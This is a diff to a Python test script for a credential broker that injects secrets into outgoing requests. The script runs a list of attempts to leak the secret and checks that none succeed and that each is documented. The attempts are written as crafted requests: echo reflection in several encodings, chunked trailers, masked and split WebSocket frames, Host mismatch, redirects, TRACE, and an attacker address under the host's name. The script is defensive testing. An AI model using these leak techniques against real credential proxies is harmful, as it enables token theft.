@@ -1,4 +1,4 @@
-"""Twenty ways to steal a secret. None may work; the table says which of them are audited."""
+"""Ways to steal a secret. None may work; the table of docs/secrets.md, with which this is compared, says which of them are audited."""
 import sys
 from broker import *
 
@@ -69,7 +69,7 @@ def attempt(what, act, audited, may_reach=()):
     for server in servers:
         server.seen.clear()
     got = act()
-    time.sleep(0.05)
+    time.sleep(0.05)  # for what a server may see later
     reached = [s for s in servers for seen in s.seen if has_value(json.dumps(seen)) and s not in may_reach]
     leaks = net.leaks()
     ok = not has_value(got) and not reached and bool(leaks) == audited
@@ -90,23 +90,32 @@ attempt("a compressed body", lambda: raw(get(method="POST", headers=["Content-En
 attempt("the query", lambda: raw(get(f"/?key={PLACEHOLDER}")), True)
 attempt("the body", lambda: raw(get(method="POST", body=f"key={PLACEHOLDER}")), True)
 attempt("a redirect that carries it on", lambda: raw(get("/redirect", [auth])), True, [api])
-attempt("a DNS name: the address of the attacker under the name", lambda: raw(get(headers=[auth]), OTHER), False, [other])
+attempt("the address of an attacker under the name of the host", lambda: raw(get(headers=[auth]), OTHER), False, [other])
 attempt("HTTP/1.0", lambda: raw(get("/echo", [auth], version="1.0")), True, [api])
 chunked = f"4\r\nbody\r\n0\r\nAuthorization: {TOKEN}\r\n\r\n".encode()
 attempt("chunks with trailers", lambda: raw(get(method="POST", headers=["Transfer-Encoding: chunked"]) + chunked), False)
 upgrade = ["Upgrade: websocket", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "Sec-WebSocket-Version: 13"]
 handshake = get("/websocket", upgrade).replace(b"Connection: close", b"Connection: Upgrade")
 attempt("a WebSocket frame", lambda: raw(handshake, more=b"\x81" + bytes([len(PLACEHOLDER)]) + PLACEHOLDER.encode()), True)
+mask = os.urandom(4)
+masked = bytes(c ^ mask[i % 4] for i, c in enumerate(PLACEHOLDER.encode()))
+attempt("a WebSocket frame with a mask", lambda: raw(handshake, more=b"\x81" + bytes([0x80 | len(PLACEHOLDER)]) + mask + masked), True)
+parts = [b"\x01" + bytes([len(PLACEHOLDER) - 9]) + PLACEHOLDER[:-9].encode(), b"\x80\x09" + PLACEHOLDER[-9:].encode()]
+attempt("two WebSocket frames", lambda: raw(handshake, more=b"".join(parts)), True)
+given = get("/echo-websocket", [*upgrade, auth]).replace(b"Connection: close", b"Connection: Upgrade")
+attempt("reflection in a WebSocket frame", lambda: raw(given), True, [api])
 attempt("a Host that is not the name of the ClientHello", lambda: raw(get(headers=[auth], host="other.test")), False)
 attempt("reflection by an echo service", lambda: raw(get("/echo", [auth])), True, [api])
-for where in ("/echo-base64", "/echo-gzip", "/echo-header", "/echo-slow"):
-    attempt(f"  {where[1:]}", lambda: raw(get(where, [auth])), True, [api])
-attempt("  TRACE", lambda: raw(get("/", [auth], method="TRACE")), False)
+for where, what in (("/echo-base64", "in base64"), ("/echo-gzip", "compressed"), ("/echo-header", "in a header"), ("/echo-hint", "in an early hint"),
+                    ("/echo-slow", "byte by byte")):
+    attempt(f"reflection {what}", lambda: raw(get(where, [auth])), True, [api])
+attempt("reflection in extensions of chunks and trailers", lambda: raw(get("/echo-trailer", [auth])), False, [api])
+attempt("TRACE", lambda: raw(get("/", [auth], method="TRACE")), False)
 FORK = PLACEHOLDER[:-4] + "fork"
 attempt("the placeholder of a fork", lambda: raw(get(headers=[f"Authorization: Bearer {FORK}"])), False)
 net.secrets([secret(value=ROTATED, placeholder=FORK)])
-attempt("the placeholder of before a rotation", lambda: raw(get("/echo", [auth])), False)
-attempt("  the new one, by an echo service", lambda: raw(get("/echo", [f"Authorization: Bearer {FORK}"])), True, [api])
+attempt("a placeholder that was replaced", lambda: raw(get("/echo", [auth])), False)
+attempt("reflection of a rotated value", lambda: raw(get("/echo", [f"Authorization: Bearer {FORK}"])), True, [api])
 net.secrets([])
 attempt("after the secret is removed", lambda: raw(get("/echo", [auth])), False)
 net.set(secrets=[secret()], policy=net.policy(proxy=f"http://{PROXY}:3128"))
@@ -119,14 +128,24 @@ net.set(secrets=[rule])
 attempt("by another's rule that sets a header to the placeholder", lambda: raw(get("/")), False)
 rule["value"] = VALUE
 net.set(secrets=[rule])
-for where in ("/echo", "/echo-base64", "/echo-gzip"):
-    attempt(f"a header that a rule sets, by {where[1:]}", lambda: raw(get(where)), True, [api])
+for where, what in (("/echo", ""), ("/echo-base64", ", in base64"), ("/echo-gzip", ", compressed")):
+    attempt(f"reflection of a header that a rule sets{what}", lambda: raw(get(where)), True, [api])
 net.set(secrets=[{**rule, "mayUseOwnPath": False}], caBundle=open(f"{tmp}/strange.crt").read())
-attempt("  with a CA bundle that another has set", lambda: raw(get("/")), True)
+attempt("a header that a rule sets, with a CA bundle that another has set", lambda: raw(get("/")), True)
 net.end()
-print(f"{'':3} {'way':56} {'value':8} audited")
+print(f"{'':3} {'way':68} {'value':8} audited")
 for row in rows:
-    print(f"{row[0]:3} {row[1]:56} {row[2]:8} {row[3]}")
+    print(f"{row[0]:3} {row[1]:68} {row[2]:8} {row[3]}")
+documented = {}
+for line in open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../../docs/secrets.md")).read().partition("| way | audited as |")[2].split("\n\n")[0].splitlines()[2:]:
+    way, audited = [cell.strip() for cell in line.strip("|").split("|")]
+    documented[way] = audited
+for _, what, _, audited in rows:
+    if documented.pop(what, None) != audited:
+        failed.append(f"docs/secrets.md does not say that '{what}' is audited as: {audited}")
+elsewhere = {"a DNS name", "the placeholder of a fork, by the original", "after the sandbox is removed"}  # in secret/clients_test
+if set(documented) != elsewhere:
+    failed.append(f"docs/secrets.md has ways that are not tried: {set(documented) - elsewhere}")
 for line in failed:
     print(f"not ok: {line}")
 print("ok: no way to steal a secret works") if not failed else sys.exit(1)
